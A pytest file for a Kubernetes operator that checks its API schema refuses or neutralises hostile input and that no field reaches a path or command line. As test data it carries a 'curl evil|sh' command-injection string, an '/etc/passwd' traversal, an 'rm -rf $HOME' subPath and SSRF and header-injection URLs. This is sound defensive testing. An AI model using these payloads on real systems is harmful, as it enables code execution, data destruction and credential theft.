"""Hostile text in every field of every kind: what the API server refuses, and that the rest is no path and no command.

The fields are found in the schema, so that a new one is tried by itself; what may hold such text is listed here with its reason.

Tested elsewhere: both sides of every bound of length, number and count (`api/test_crds`), addresses with credentials, encoded dots and control
characters in every kind of source (`tests/support/spec_cases`), overlays of pods one by one (`tests/unit/kuberay/test_rayjob_rendering`).
"""

from __future__ import annotations

import copy
import json
from collections.abc import Iterator, Mapping
from typing import Any

import aiohttp
import pytest
from tests.support.kuberay_cases import KUBERAY
from tests.support.operator import Bench
from tests.support.spec_cases import BASES, FULL, changed
from tests.support.watcher import PATHS, Body

from gradatim.api.build import (
    RunIdentity,
    Surroundings,
    dataset_run_config,
    index_run_config,
    store_config,
    vector_store_config,
)
from gradatim.api.computeprofile import ComputeProfileSpec
from gradatim.api.dataset import DatasetSpec
from gradatim.api.ragindex import RAGIndexSpec
from gradatim.api.run import RunObject, attempt_name
from gradatim.operator.runtimes.base import Launch
from gradatim.operator.runtimes.kuberay_objects import rayjob
from gradatim.operator.runtimes.raycluster import submission

pytestmark = pytest.mark.asyncio(loop_scope="module")
COMMAND = "x'; curl evil|sh #$(id)`id`\n--exec"
CLIMB = "../../../../etc/passwd"


async def judged(b: Bench, manifest: Body, validation: str = "Strict") -> tuple[Body, str]:
    """Return what the API server would store, or what it says against it."""
    path = PATHS[manifest["kind"]].format(ns=manifest["metadata"].get("namespace", ""))
    try:
        return await b.cluster.call("POST", f"{path}?dryRun=All&fieldValidation={validation}", manifest), ""
    except aiohttp.ClientResponseError as error:
        if error.status not in {400, 422}:
            raise
        return {}, error.message


def texts(value: Any, path: str = "") -> Iterator[str]:
    """Yield the path of every text of a manifest."""
    members = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    for key, member in members:
        at = f"{path}.{key}" if path else str(key)
        if isinstance(member, str):
            yield at
        else:
            yield from texts(member, at)


def plain(path: str) -> str:
    """Return a path without the numbers of list members."""
    return ".".join("*" if part.isdigit() else part for part in path.split("."))


async def taken(b: Bench, kind: str, text: str) -> dict[str, Body]:
    """Return, by path, the specs that the API server takes with `text` in one field; a refusal names the field."""
    found: dict[str, Body] = {}
    for path in texts(FULL[kind]["spec"]):
        manifest = changed(FULL[kind], {path: text})
        body, refusal = await judged(b, manifest)
        if body:
            found[path] = body["spec"]
        else:
            parts = [part for part in path.split(".") if not part.isdigit()]
            assert any(part in refusal for part in parts[-2:]), (path, refusal)
    return found


# Patterns that only select from files already listed, names of columns and of parts of a data set, text for a model.
_SELECTS = {
    "{s}.git.paths.*": "matched against the files of the repository",
    "{s}.huggingFace.config": "compared with the card's",
    "{s}.huggingFace.split": "compared with names of files",
}
_VALIDATED = {"validation.expectations.*.kwargs.column": "an argument, never run"}
FREE: Mapping[str, set[str]] = {
    "ComputeProfile": {"allowedNamespaces.selector.matchLabels.team"},
    "Dataset": {
        "columns.text",
        *_VALIDATED,
        *(path.format(s="decontaminate.*.source") for path in _SELECTS),
    },
    "RAGIndex": {
        "sources.*.metadata.team",
        "embedding.prefix.query",
        "embedding.prefix.document",
        *_VALIDATED,
        *(path.format(s="sources.*.source") for path in _SELECTS),
    },
}


@pytest.mark.parametrize("kind", BASES)
async def test_no_field_that_becomes_a_path_takes_a_climb(b: Bench, kind: str) -> None:
    assert {plain(path) for path in await taken(b, kind, CLIMB)} == FREE[kind]


@pytest.mark.parametrize("kind", BASES)
async def test_text_for_a_shell_is_taken_as_text_only(b: Bench, kind: str) -> None:
    assert {plain(path) for path in await taken(b, kind, COMMAND)} == FREE[kind]


PROFILE = ComputeProfileSpec.model_validate(
    {
        "runtime": KUBERAY,
        "artifactStore": {"root": "s3://store/{namespace}/"},
        "vectorStore": {"endpoint": "http://weaviate:8080", "grpcEndpoint": "http://weaviate:50051"},
    }
)
WORDS = {"Dataset": "validate", "RAGIndex": "index"}


def orders(kind: str, spec: Body) -> tuple[Body, Mapping[str, object]]:
    """Return what both runtimes would be asked to run."""
    around = Surroundings(
        store=store_config(PROFILE, "team"), vector_store=vector_store_config(PROFILE), limits=PROFILE.limits
    )
    owner = RunObject(kind="Dataset" if kind == "Dataset" else "RAGIndex", namespace="team", name="a", uid="u")
    identity = RunIdentity(owner, "a-0123456789", 1)
    if kind == "Dataset":
        config = dataset_run_config(identity, DatasetSpec.model_validate(spec), around)
    else:
        config = index_run_config(identity, RAGIndexSpec.model_validate(spec), around)
    launch = Launch(
        name=attempt_name(config.run, 1),
        namespace="team",
        config_json=config.model_dump_json(by_alias=True, exclude_none=True),
        config_digest=config.digest,
        uid="u",
        workers=1,
    )
    return rayjob(launch, config, PROFILE), submission(launch)


@pytest.mark.parametrize("kind", WORDS)
async def test_text_for_a_shell_reaches_no_command_line(b: Bench, kind: str) -> None:
    """All fields that take it hold it at once, and the one of a volume's folder besides."""
    folder = {"persistentVolumeClaim": {"claimName": "docs", "subPath": "x'; rm -rf $HOME #"}}
    checked = {"expectations": [{"type": "expect_x", "kwargs": {COMMAND: COMMAND}}]}
    base = copy.deepcopy(BASES[kind])
    if kind == "Dataset":
        base["spec"] |= {"source": folder, "columns": {COMMAND: COMMAND}, "validation": checked}
    else:
        prefix = {"query": COMMAND, "document": COMMAND}
        base["spec"]["sources"] = [{"name": "s", "source": folder, "metadata": {COMMAND: COMMAND}}]
        base["spec"] |= {"validation": checked, "embedding": base["spec"]["embedding"] | {"prefix": prefix}}
    body, refusal = await judged(b, base)
    assert not refusal
    job, sent = orders(kind, body["spec"])
    digest = job["spec"]["entrypoint"].rsplit(" ", 1)[1]
    assert job["spec"]["entrypoint"] == (
        f"python -m gradatim.workloads {WORDS[kind]} --config /etc/gradatim/run/config.json --attempt 1 --digest {digest}"
    )
    assert digest.removeprefix("sha256:").isalnum()
    assert sent["entrypoint"] == f"python -m gradatim.workloads {WORDS[kind]}"
    for shown in (json.dumps(job), json.dumps({k: v for k, v in sent.items() if k != "runtime_env"})):
        assert "curl evil" not in shown
        assert "rm -rf" not in shown


REFERENCES: list[tuple[str, str, Body]] = [
    ("Dataset", "source", {"datasetRef": {"name": "a", "namespace": "other"}}),
    ("Dataset", "source", {"s3": {"uri": "s3://bucket/a", "secretRef": {"name": "a", "namespace": "other"}}}),
    ("Dataset", "source", {"git": {"url": "https://h/a.git", "secretRef": {"name": "a", "namespace": "other"}}}),
    ("Dataset", "source", {"persistentVolumeClaim": {"claimName": "a", "namespace": "other"}}),
    ("Dataset", "validation", {"suiteRef": {"name": "a", "namespace": "other"}}),
    ("RAGIndex", "compute", {"profileRef": {"name": "a", "namespace": "other"}}),
    ("RAGIndex", "evaluation", {"questions": {"datasetRef": {"name": "a", "namespace": "other"}}}),
]


@pytest.mark.parametrize(
    ("kind", "member", "value"), REFERENCES, ids=[f"{r[0]} {r[1]} {next(iter(r[2]))}" for r in REFERENCES]
)
async def test_no_reference_names_a_namespace(b: Bench, kind: str, member: str, value: Body) -> None:
    manifest = changed(BASES[kind], {member: value})
    _, refusal = await judged(b, manifest)
    assert "unknown field" in refusal
    assert "namespace" in refusal
    body, _ = await judged(b, manifest, "Ignore")
    assert '"other"' not in json.dumps(body["spec"])
    for odd in ("other/a", "../a", "a.", "A", "a\n"):
        _, refusal = await judged(b, json.loads(json.dumps(manifest).replace('"a"', json.dumps(odd))), "Ignore")
        assert "should match" in refusal, odd


ADDRESSES = [
    "file:///etc/passwd", "gopher://127.0.0.1:6379/_x", "ftp://h/a", "dict://h/a", "ext::sh -c id", "javascript:x", "//h/a", "h/a",
    "http://me:secret@h/a", "http://h\\@evil/a", "http://h/a b", "http://h/\r\nHost: evil", "http://①②⑦.0.0.1/", "HTTP://h/a", " http://h/a", "http://",
]  # fmt: skip
PLACES = [
    ("Dataset", "source", lambda url: {"http": {"urls": [url]}}, "source.http.urls"),
    ("Dataset", "source", lambda url: {"git": {"url": url.replace("http:", "https:")}}, "source.git"),
    ("RAGIndex", "sources.0.source", lambda url: {"s3": {"uri": "s3://bucket/a", "endpoint": url}}, "s3.endpoint"),
    ("ComputeProfile", "vectorStore.endpoint", lambda url: url, "vectorStore.endpoint"),
    ("ComputeProfile", "artifactStore.endpoint", lambda url: url, "artifactStore.endpoint"),
    ("ComputeProfile", "runtime.rayCluster.address", lambda url: url, "rayCluster.address"),
]


@pytest.mark.parametrize(("kind", "member", "put", "named"), PLACES, ids=[p[3] for p in PLACES])
async def test_an_address_has_a_known_scheme_a_host_and_no_credentials(
    b: Bench, kind: str, member: str, put: Any, named: str
) -> None:
    let_in = []
    for url in ADDRESSES:
        _, refusal = await judged(b, changed(BASES[kind], {member: put(url)}))
        if named not in refusal:
            let_in.append(url)
    assert let_in == []


async def test_lists_of_thousands_and_bodies_beyond_the_store_are_refused(b: Bench) -> None:
    sources = [{"name": f"s{n}", "source": {"path": f"file:///data/{n}"}} for n in range(5000)]
    _, refusal = await judged(b, changed(BASES["RAGIndex"], {"sources": sources}))
    assert "spec.sources" in refusal
    _, refusal = await judged(
        b, changed(BASES["Dataset"], {"source": {"http": {"urls": [f"https://h/{n}" for n in range(5000)]}}})
    )
    assert "spec.source.http.urls" in refusal
    _, refusal = await judged(b, changed(BASES["Dataset"], {"columns": {f"c{n}": "x" for n in range(5000)}}))
    assert "spec.columns" in refusal
